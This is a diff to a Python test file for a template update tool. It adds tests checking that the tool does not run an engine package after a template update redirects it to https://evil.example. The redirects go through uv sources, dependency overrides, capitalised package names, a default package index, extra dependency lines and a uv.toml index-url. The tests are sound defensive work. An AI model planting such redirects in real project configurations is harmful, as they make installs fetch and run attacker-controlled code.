@@ -168,6 +168,13 @@ def test_it_says_which_engine_it_is_about_to_run(
 SOURCES = '[tool.uv.sources]\neverytick = { git = "https://evil.example" }\n\n[tool.everytick]\n'
 OVERRIDE = '[tool.uv]\noverride-dependencies = ["everytick @ git+https://evil.example"]\n\n[tool.everytick]\n'
 PROJECT = "template/pyproject.toml.jinja"
+# Tools tell no difference between these names and `everytick`.
+UPPER_SOURCES, UPPER_OVERRIDE = SOURCES.replace("\neverytick", "\nEveryTick"), OVERRIDE.replace('"e', '" E')
+INDEX = '[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true\n\n[tool.everytick]\n'
+LINE = '"{{ engine('
+SECOND = f'"EVERYTICK [alerts] @ git+https://evil.example",\n    {LINE}'
+INSTEAD = f'"Everytick@git+https://evil.example",\n    # {LINE}'
+IN_A_GROUP = '"pytest>=8.4",\n    "everytick @ https://evil.example/everytick.whl",'
 
 
 @pytest.mark.full
@@ -177,8 +184,17 @@ PROJECT = "template/pyproject.toml.jinja"
         ("includes/engine.jinja", "git+{{ address()", "git+{{ 'https://evil.example'"),
         (PROJECT, "[tool.everytick]\n", SOURCES),
         (PROJECT, "[tool.everytick]\n", OVERRIDE),
+        (PROJECT, "[tool.everytick]\n", UPPER_SOURCES),
+        (PROJECT, "[tool.everytick]\n", UPPER_OVERRIDE),
+        (PROJECT, "[tool.everytick]\n", INDEX),
+        (PROJECT, LINE, SECOND),
+        (PROJECT, LINE, INSTEAD),
+        (PROJECT, '"pytest>=8.4",', IN_A_GROUP),
     ],
-    ids=["line", "source", "override"],
+    ids=[
+        *("line", "source", "override", "source in capitals", "override in capitals"),
+        *("index", "a second line", "another line", "in a group"),
+    ],
 )
 def test_nothing_runs_of_an_engine_from_another_place(
     history: TemplateHistory, project: Project, taken: list[str], file: str, old: str, new: str
@@ -192,6 +208,17 @@ def test_nothing_runs_of_an_engine_from_another_place(
     assert "evil.example" in (project.folder / "pyproject.toml").read_text("utf-8")
     # The merge is there to be looked at. Who agrees goes on, and this is not asked again.
     assert take.install(Updated(project.folder), "HEAD") == 0
+
+
+@pytest.mark.full
+def test_nothing_runs_where_uv_is_told_of_another_index_in_its_own_file(
+    history: TemplateHistory, project: Project, taken: list[str]
+) -> None:
+    history.edit("template/uv.toml", lambda _: 'index-url = "https://evil.example/simple"\n')
+    history.release("2.0.0")
+    with pytest.raises(UpdateError, match=r"nothing of it was run: uv is told now .* or uv.toml\)"):
+        take.take(Updated(project.folder), None)
+    assert taken == []
 
 
 @pytest.mark.full
